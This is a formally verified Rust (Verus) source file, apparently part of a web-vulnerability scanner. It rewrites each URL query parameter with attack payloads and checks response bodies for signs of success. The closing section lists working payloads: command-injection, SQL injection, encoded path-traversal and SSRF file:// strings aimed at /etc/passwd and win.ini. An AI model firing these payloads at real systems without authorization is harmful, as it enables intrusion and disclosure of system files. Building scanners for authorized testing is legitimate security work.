//! Query-parameter fuzzing: for each `key=value` pair of a URL's query, and
//! each payload, a variant of the URL with that key's value replaced by the
//! payload; and the evidence strings that betray a successful payload.
//!
//! A pair starts at a `?` or `&`, runs through a non-empty key up to the first
//! `=`, and takes as its value everything up to the next `&` or the end. Pairs
//! are found from left to right, each search resuming where the last pair
//! ended.

use vstd::prelude::*;
use crate::text::{chars_of, contains, contains_exec, first_from, first_index_from, lemma_first_from, string_from_chars};

verus! {

/// A pair starts at position `i` (it always ends past its `=`, within `s`).
pub open spec fn pair_at(s: Seq<char>, i: int) -> bool {
    &&& 0 <= i < s.len()
    &&& (s[i] == '?' || s[i] == '&')
    &&& i + 1 < first_from(s, i + 1, '=') < s.len()
    &&& i < pair_end(s, i) <= s.len()
}

/// Where the `=` of the pair at `i` stands.
pub open spec fn pair_eq(s: Seq<char>, i: int) -> int {
    first_from(s, i + 1, '=')
}

/// Where the pair at `i` ends.
pub open spec fn pair_end(s: Seq<char>, i: int) -> int {
    first_from(s, pair_eq(s, i) + 1, '&')
}

/// One piece of a URL: a character outside any pair, or a whole pair.
pub enum Piece {
    Plain { text: Seq<char> },
    Param { sep: char, key: Seq<char>, value: Seq<char> },
}

/// The text of a piece.
pub open spec fn piece_text(p: Piece) -> Seq<char> {
    match p {
        Piece::Plain { text } => text,
        Piece::Param { sep, key, value } => seq![sep] + key + seq!['='] + value,
    }
}

/// The text of a sequence of pieces, one after the other.
pub open spec fn assemble(ps: Seq<Piece>) -> Seq<char>
    decreases ps.len(),
{
    if ps.len() == 0 {
        Seq::empty()
    } else {
        piece_text(ps[0]) + assemble(ps.drop_first())
    }
}

/// The pieces of `s` from position `i` on.
pub open spec fn pieces_from(s: Seq<char>, i: int) -> Seq<Piece>
    decreases s.len() - i,
{
    if i < 0 || i >= s.len() {
        Seq::empty()
    } else if pair_at(s, i) {
        seq![
            Piece::Param {
                sep: s[i],
                key: s.subrange(i + 1, pair_eq(s, i)),
                value: s.subrange(pair_eq(s, i) + 1, pair_end(s, i)),
            },
        ] + pieces_from(s, pair_end(s, i))
    } else {
        seq![Piece::Plain { text: s.subrange(i, i + 1) }] + pieces_from(s, i + 1)
    }
}

/// The keys of the pairs of `s` from position `i` on, in order.
pub open spec fn keys_from(s: Seq<char>, i: int) -> Seq<Seq<char>>
    decreases s.len() - i,
{
    if i < 0 || i >= s.len() {
        Seq::empty()
    } else if pair_at(s, i) {
        seq![s.subrange(i + 1, pair_eq(s, i))] + keys_from(s, pair_end(s, i))
    } else {
        keys_from(s, i + 1)
    }
}

/// `s` from position `i` on, with the value of every pair whose key is `key`
/// replaced by `payload`.
pub open spec fn replaced(s: Seq<char>, i: int, key: Seq<char>, payload: Seq<char>) -> Seq<char>
    decreases s.len() - i,
{
    if i < 0 || i >= s.len() {
        Seq::empty()
    } else if pair_at(s, i) {
        let piece = if s.subrange(i + 1, pair_eq(s, i)) == key {
            s.subrange(i, pair_eq(s, i) + 1) + payload
        } else {
            s.subrange(i, pair_end(s, i))
        };
        piece + replaced(s, pair_end(s, i), key, payload)
    } else {
        seq![s[i]] + replaced(s, i + 1, key, payload)
    }
}

/// The piece with its value replaced, when it is a pair with key `key`.
pub open spec fn fuzz_piece(p: Piece, key: Seq<char>, payload: Seq<char>) -> Piece {
    match p {
        Piece::Param { sep, key: k, value } => if k == key {
            Piece::Param { sep, key: k, value: payload }
        } else {
            p
        },
        Piece::Plain { .. } => p,
    }
}

proof fn lemma_pair_bounds(s: Seq<char>, i: int)
    requires
        pair_at(s, i),
    ensures
        i + 1 < pair_eq(s, i) < pair_end(s, i) <= s.len(),
        s[pair_eq(s, i)] == '=',
{
    lemma_first_from(s, i + 1, '=');
    lemma_first_from(s, pair_eq(s, i) + 1, '&');
}

proof fn lemma_assemble_cons(p: Piece, ps: Seq<Piece>)
    ensures
        assemble(seq![p] + ps) == piece_text(p) + assemble(ps),
{
    assert((seq![p] + ps).drop_first() =~= ps);
}

proof fn lemma_pieces_assemble(s: Seq<char>, i: int)
    requires
        0 <= i <= s.len(),
    ensures
        assemble(pieces_from(s, i)) == s.subrange(i, s.len() as int),
    decreases s.len() - i,
{
    if i < s.len() {
        if pair_at(s, i) {
            lemma_pair_bounds(s, i);
            let e = pair_eq(s, i);
            let v = pair_end(s, i);
            lemma_pieces_assemble(s, v);
            let p = Piece::Param { sep: s[i], key: s.subrange(i + 1, e), value: s.subrange(e + 1, v) };
            lemma_assemble_cons(p, pieces_from(s, v));
            assert(piece_text(p) =~= s.subrange(i, v));
            assert(s.subrange(i, v) + s.subrange(v, s.len() as int) =~= s.subrange(i, s.len() as int));
        } else {
            lemma_pieces_assemble(s, i + 1);
            lemma_assemble_cons(Piece::Plain { text: s.subrange(i, i + 1) }, pieces_from(s, i + 1));
            assert(s.subrange(i, i + 1) + s.subrange(i + 1, s.len() as int) =~= s.subrange(i, s.len() as int));
        }
    } else {
        assert(s.subrange(i, s.len() as int) =~= Seq::<char>::empty());
    }
}

proof fn lemma_replaced_pieces(s: Seq<char>, i: int, key: Seq<char>, payload: Seq<char>)
    requires
        0 <= i <= s.len(),
    ensures
        replaced(s, i, key, payload) == assemble(
            pieces_from(s, i).map_values(|p: Piece| fuzz_piece(p, key, payload)),
        ),
    decreases s.len() - i,
{
    let f = |p: Piece| fuzz_piece(p, key, payload);
    if i < s.len() {
        if pair_at(s, i) {
            lemma_pair_bounds(s, i);
            let e = pair_eq(s, i);
            let v = pair_end(s, i);
            lemma_replaced_pieces(s, v, key, payload);
            let p = Piece::Param { sep: s[i], key: s.subrange(i + 1, e), value: s.subrange(e + 1, v) };
            assert(pieces_from(s, i) == seq![p] + pieces_from(s, v));
            assert(pieces_from(s, i).map_values(f) =~= seq![f(p)] + pieces_from(s, v).map_values(f));
            lemma_assemble_cons(f(p), pieces_from(s, v).map_values(f));
            if s.subrange(i + 1, e) == key {
                assert(piece_text(f(p)) =~= s.subrange(i, e + 1) + payload);
            } else {
                assert(piece_text(f(p)) =~= s.subrange(i, v));
            }
        } else {
            lemma_replaced_pieces(s, i + 1, key, payload);
            let p = Piece::Plain { text: s.subrange(i, i + 1) };
            assert(pieces_from(s, i) == seq![p] + pieces_from(s, i + 1));
            assert(pieces_from(s, i).map_values(f) =~= seq![f(p)] + pieces_from(s, i + 1).map_values(f));
            lemma_assemble_cons(f(p), pieces_from(s, i + 1).map_values(f));
        }
    } else {
        assert(pieces_from(s, i).map_values(f) =~= Seq::<Piece>::empty());
    }
}

/// Fuzzing changes nothing but values: a URL is exactly the text of its
/// pieces (characters outside pairs, and `key=value` pairs), and the variant
/// for `key` is the text of the same pieces where each pair with that key
/// has the payload as its value, every other piece kept verbatim.
pub proof fn lemma_fuzz_changes_only_matching_values(s: Seq<char>, key: Seq<char>, payload: Seq<char>)
    ensures
        assemble(pieces_from(s, 0)) == s,
        replaced(s, 0, key, payload) == assemble(
            pieces_from(s, 0).map_values(|p: Piece| fuzz_piece(p, key, payload)),
        ),
{
    lemma_pieces_assemble(s, 0);
    assert(s.subrange(0, s.len() as int) =~= s);
    lemma_replaced_pieces(s, 0, key, payload);
}

/// Where the pair at `i` ends, or `None` when no pair starts at `i`; the
/// position of its `=` with it.
fn pair_at_exec(s: &[char], i: usize) -> (r: Option<(usize, usize)>)
    requires
        i < s@.len(),
    ensures
        r is Some <==> pair_at(s@, i as int),
        r matches Some(p) ==> p.0 == pair_eq(s@, i as int) && p.1 == pair_end(s@, i as int),
{
    if s[i] != '?' && s[i] != '&' {
        return None;
    }
    let e = first_index_from(s, i + 1, '=');
    if e <= i + 1 || e >= s.len() {
        return None;
    }
    let v = first_index_from(s, e + 1, '&');
    proof {
        lemma_first_from(s@, e + 1, '&');
    }
    Some((e, v))
}

/// The keys of the query pairs of `url`, in order.
pub fn query_keys(url: &str) -> (r: Vec<String>)
    ensures
        r@.map_values(|k: String| k@) == keys_from(url@, 0),
{
    let s = chars_of(url);
    let mut out: Vec<String> = Vec::new();
    let mut i: usize = 0;
    while i < s.len()
        invariant
            s@ == url@,
            i <= s@.len(),
            out@.map_values(|k: String| k@) + keys_from(s@, i as int) == keys_from(s@, 0),
        decreases s@.len() - i,
    {
        match pair_at_exec(s.as_slice(), i) {
            Some((e, v)) => {
                proof {
                    lemma_pair_bounds(s@, i as int);
                }
                let ghost prev = out@.map_values(|k: String| k@);
                let ks = &s.as_slice()[i + 1..e];
                assert(s@.subrange(i + 1, e as int) == ks@);
                let key = string_from_chars(ks);
                out.push(key);
                assert(out@.map_values(|k: String| k@) =~= prev.push(s@.subrange(i + 1, e as int)));
                assert(prev.push(s@.subrange(i + 1, e as int)) + keys_from(s@, v as int) =~= prev
                    + keys_from(s@, i as int));
                i = v;
            },
            None => {
                i = i + 1;
            },
        }
    }
    assert(keys_from(s@, i as int) =~= Seq::<Seq<char>>::empty());
    assert(out@.map_values(|k: String| k@) + Seq::<Seq<char>>::empty() =~= out@.map_values(|k: String| k@));
    out
}

/// `url` with the value of every query pair whose key is `key` replaced by `payload`.
pub fn replace_param(url: &str, key: &str, payload: &str) -> (r: String)
    ensures
        r@ == replaced(url@, 0, key@, payload@),
{
    let s = chars_of(url);
    let k = chars_of(key);
    let p = chars_of(payload);
    let mut out: Vec<char> = Vec::new();
    let mut i: usize = 0;
    while i < s.len()
        invariant
            s@ == url@,
            k@ == key@,
            p@ == payload@,
            i <= s@.len(),
            out@ + replaced(s@, i as int, k@, p@) == replaced(s@, 0, k@, p@),
        decreases s@.len() - i,
    {
        let ghost before = out@;
        match pair_at_exec(s.as_slice(), i) {
            Some((e, v)) => {
                proof {
                    lemma_pair_bounds(s@, i as int);
                }
                let key_here = &s.as_slice()[i + 1..e];
                assert(key_here@ == s@.subrange(i + 1, e as int));
                let same = key_here.len() == k.len() && contains_exec(key_here, k.as_slice());
                assert(same == (s@.subrange(i + 1, e as int) == k@)) by {
                    if key_here@.len() == k@.len() && contains(key_here@, k@) {
                        let j = choose|j: int| crate::text::occurs_at(key_here@, k@, j);
                        assert(j == 0);
                        assert(key_here@.subrange(0, k@.len() as int) =~= key_here@);
                    }
                    if s@.subrange(i + 1, e as int) == k@ {
                        assert(key_here@.subrange(0, k@.len() as int) =~= key_here@);
                        assert(crate::text::occurs_at(key_here@, k@, 0));
                    }
                }
                let end = if same { e + 1 } else { v };
                let mut j: usize = i;
                while j < end
                    invariant
                        i <= j <= end <= s@.len(),
                        out@ == before + s@.subrange(i as int, j as int),
                    decreases end - j,
                {
                    out.push(s[j]);
                    assert(s@.subrange(i as int, j + 1) =~= s@.subrange(i as int, j as int).push(s@[j as int]));
                    j = j + 1;
                }
                if same {
                    let mut m: usize = 0;
                    while m < p.len()
                        invariant
                            m <= p@.len(),
                            out@ == before + s@.subrange(i as int, e + 1) + p@.take(m as int),
                        decreases p@.len() - m,
                    {
                        out.push(p[m]);
                        assert(p@.take(m + 1) =~= p@.take(m as int).push(p@[m as int]));
                        m = m + 1;
                    }
                    assert(p@.take(m as int) =~= p@);
                }
                assert(out@ + replaced(s@, v as int, k@, p@) =~= before + replaced(s@, i as int, k@, p@));
                i = v;
            },
            None => {
                out.push(s[i]);
                assert(out@ + replaced(s@, i + 1, k@, p@) =~= before + replaced(s@, i as int, k@, p@));
                i = i + 1;
            },
        }
    }
    assert(out@ + Seq::<char>::empty() =~= out@);
    string_from_chars(out.as_slice())
}

/// The variants of `url`: for each of its query pairs in order, and for each
/// payload in order, the URL with that pair's key given the payload as value.
pub open spec fn variants(url: Seq<char>, payloads: Seq<String>) -> Seq<Seq<char>> {
    Seq::new(
        (keys_from(url, 0).len() * payloads.len()) as nat,
        |n: int|
            replaced(
                url,
                0,
                keys_from(url, 0)[n / payloads.len() as int],
                payloads[n % payloads.len() as int]@,
            ),
    )
}

/// Every variant of `url` for the given payloads (see `variants`).
pub fn replace(url: &str, poc: &Vec<String>) -> (r: Vec<String>)
    ensures
        r@.map_values(|s: String| s@) == variants(url@, poc@),
{
    let keys = query_keys(url);
    let mut out: Vec<String> = Vec::new();
    let mut t: usize = 0;
    let ghost np = poc@.len() as int;
    while t < keys.len()
        invariant
            keys@.map_values(|k: String| k@) == keys_from(url@, 0),
            np == poc@.len(),
            t <= keys@.len(),
            out@.len() == t * np,
            forall|n: int|
                0 <= n < out@.len() ==> #[trigger] out@[n]@ == replaced(
                    url@,
                    0,
                    keys@[n / np]@,
                    poc@[n % np]@,
                ),
        decreases keys@.len() - t,
    {
        let mut j: usize = 0;
        while j < poc.len()
            invariant
                np == poc@.len(),
                t < keys@.len(),
                j <= np,
                out@.len() == t * np + j,
                forall|n: int|
                    0 <= n < out@.len() ==> #[trigger] out@[n]@ == replaced(
                        url@,
                        0,
                        keys@[n / np]@,
                        poc@[n % np]@,
                    ),
            decreases np - j,
        {
            let v = replace_param(url, keys[t].as_str(), poc[j].as_str());
            proof {
                let n = t * np + j;
                assert(n / np == t && n % np == j) by (nonlinear_arith)
                    requires
                        n == t * np + j,
                        0 <= j < np,
                        0 <= t,
                ;
            }
            out.push(v);
            j = j + 1;
        }
        proof {
            assert((t + 1) * np == t * np + np) by (nonlinear_arith);
        }
        t = t + 1;
    }
    proof {
        let np = poc@.len() as int;
        let want = variants(url@, poc@);
        let got = out@.map_values(|s: String| s@);
        assert(keys@.len() == keys_from(url@, 0).len());
        assert forall|n: int| 0 <= n < got.len() implies got[n] == want[n] by {
            assert(np > 0) by {
                if np == 0 {
                    assert(out@.len() == 0) by (nonlinear_arith)
                        requires out@.len() == t * np, np == 0;
                }
            }
            assert(0 <= n / np < keys@.len()) by (nonlinear_arith)
                requires 0 <= n < keys@.len() * np, np > 0;
            assert(keys@[n / np]@ == keys_from(url@, 0)[n / np]);
        }
        assert(got =~= want);
    }
    out
}

/// The payload families, each with its own evidence strings.
#[derive(PartialEq, Eq, Structural, Clone, Copy, Debug)]
pub enum PayloadCategory {
    CommandExec,
    SqlInjection,
    FileRead,
    Ssrf,
}

pub open spec fn strs_view(t: Seq<&str>) -> Seq<Seq<char>> {
    t.map_values(|s: &str| s@)
}

/// Response text that betrays a database error.
pub open spec fn sql_evidence() -> Seq<Seq<char>> {
    seq![
        "SQL syntax"@,
        "PostgreSQL"@,
        "SQL Server"@,
        "Oracle error"@,
        "DB2 SQL error"@,
        "SQLite"@
    ]
}

fn sql_evidence_list() -> (r: Vec<&'static str>)
    ensures
        strs_view(r@) == sql_evidence(),
{
    let r = vec![
        "SQL syntax",
        "PostgreSQL",
        "SQL Server",
        "Oracle error",
        "DB2 SQL error",
        "SQLite"
    ];
    assert(strs_view(r@) =~= sql_evidence());
    r
}
/// Response text that betrays the contents of a system file.
pub open spec fn file_read_evidence() -> Seq<Seq<char>> {
    seq![
        "root:x"@,
        "for 16-bit"@
    ]
}

fn file_read_evidence_list() -> (r: Vec<&'static str>)
    ensures
        strs_view(r@) == file_read_evidence(),
{
    let r = vec![
        "root:x",
        "for 16-bit"
    ];
    assert(strs_view(r@) =~= file_read_evidence());
    r
}
/// Payloads that ask a command to print a system file.
pub open spec fn command_payloads() -> Seq<Seq<char>> {
    seq![
        "cat /etc/passwd"@,
        "type %windir%\\win.ini"@
    ]
}

fn command_payload_list() -> (r: Vec<&'static str>)
    ensures
        strs_view(r@) == command_payloads(),
{
    let r = vec![
        "cat /etc/passwd",
        "type %windir%\\win.ini"
    ];
    assert(strs_view(r@) =~= command_payloads());
    r
}
/// Payloads that provoke a database error.
pub open spec fn sql_payloads() -> Seq<Seq<char>> {
    seq![
        "') OR (78786=78678 --"@,
        "'\" AND 78786=78678 --+a"@,
        "1 AND 78786=78678 --+a"@,
        "' OR 1=CAST(CHAR(65) AS INT) --"@
    ]
}

fn sql_payload_list() -> (r: Vec<&'static str>)
    ensures
        strs_view(r@) == sql_payloads(),
{
    let r = vec![
        "') OR (78786=78678 --",
        "'\" AND 78786=78678 --+a",
        "1 AND 78786=78678 --+a",
        "' OR 1=CAST(CHAR(65) AS INT) --"
    ];
    assert(strs_view(r@) =~= sql_payloads());
    r
}
/// Payloads that walk to a system file.
pub open spec fn file_read_payloads() -> Seq<Seq<char>> {
    seq![
        "\\c$\\windows\\win.ini"@,
        "/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/etc/passwd"@,
        "/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/C:/windows/win.ini"@
    ]
}

fn file_read_payload_list() -> (r: Vec<&'static str>)
    ensures
        strs_view(r@) == file_read_payloads(),
{
    let r = vec![
        "\\c$\\windows\\win.ini",
        "/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        "/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/C:/windows/win.ini"
    ];
    assert(strs_view(r@) =~= file_read_payloads());
    r
}
/// Payloads that point the server at a local file by URL.
pub open spec fn ssrf_payloads() -> Seq<Seq<char>> {
    seq![
        "file:///etc/passwd"@,
        "file:///C:/windows/win.ini"@
    ]
}

fn ssrf_payload_list() -> (r: Vec<&'static str>)
    ensures
        strs_view(r@) == ssrf_payloads(),
{
    let r = vec![
        "file:///etc/passwd",
        "file:///C:/windows/win.ini"
    ];
    assert(strs_view(r@) =~= ssrf_payloads());
    r
}

/// The payloads of a category.
pub open spec fn payloads_of(c: PayloadCategory) -> Seq<Seq<char>> {
    match c {
        PayloadCategory::CommandExec => command_payloads(),
        PayloadCategory::SqlInjection => sql_payloads(),
        PayloadCategory::FileRead => file_read_payloads(),
        PayloadCategory::Ssrf => ssrf_payloads(),
    }
}

/// The evidence strings of a category: database errors for SQL injection,
/// system-file contents for the others.
pub open spec fn evidence_of(c: PayloadCategory) -> Seq<Seq<char>> {
    match c {
        PayloadCategory::SqlInjection => sql_evidence(),
        _ => file_read_evidence(),
    }
}

fn owned(t: Vec<&'static str>) -> (r: Vec<String>)
    ensures
        r@.map_values(|s: String| s@) == strs_view(t@),
{
    let mut out: Vec<String> = Vec::new();
    let mut i: usize = 0;
    while i < t.len()
        invariant
            i <= t@.len(),
            out@.map_values(|s: String| s@) == strs_view(t@).take(i as int),
        decreases t@.len() - i,
    {
        let ghost prev = out@.map_values(|s: String| s@);
        let item = t[i].to_string();
        assert(item@ == t@[i as int]@);
        out.push(item);
        assert(out@.map_values(|s: String| s@) =~= prev.push(t@[i as int]@));
        assert(strs_view(t@).take(i + 1) =~= strs_view(t@).take(i as int).push(t@[i as int]@));
        i = i + 1;
    }
    assert(strs_view(t@).take(i as int) =~= strs_view(t@));
    out
}

/// The payloads of a category.
pub fn payloads(c: PayloadCategory) -> (r: Vec<String>)
    ensures
        r@.map_values(|s: String| s@) == payloads_of(c),
{
    match c {
        PayloadCategory::CommandExec => owned(command_payload_list()),
        PayloadCategory::SqlInjection => owned(sql_payload_list()),
        PayloadCategory::FileRead => owned(file_read_payload_list()),
        PayloadCategory::Ssrf => owned(ssrf_payload_list()),
    }
}

/// A response body shows evidence for a category.
pub open spec fn shows_evidence(c: PayloadCategory, body: Seq<char>) -> bool {
    exists|i: int| 0 <= i < evidence_of(c).len() && #[trigger] contains(body, evidence_of(c)[i])
}

/// Whether a response body holds one of the evidence strings of a category.
pub fn evidence_found(c: PayloadCategory, body: &str) -> (r: bool)
    ensures
        r == shows_evidence(c, body@),
{
    let list = match c {
        PayloadCategory::SqlInjection => sql_evidence_list(),
        _ => file_read_evidence_list(),
    };
    let b = chars_of(body);
    let mut i: usize = 0;
    while i < list.len()
        invariant
            strs_view(list@) == evidence_of(c),
            b@ == body@,
            i <= list@.len(),
            forall|k: int| 0 <= k < i ==> !contains(body@, evidence_of(c)[k]),
        decreases list@.len() - i,
    {
        let e = chars_of(list[i]);
        assert(e@ == evidence_of(c)[i as int]);
        if contains_exec(b.as_slice(), e.as_slice()) {
            return true;
        }
        i = i + 1;
    }
    false
}

} // verus!
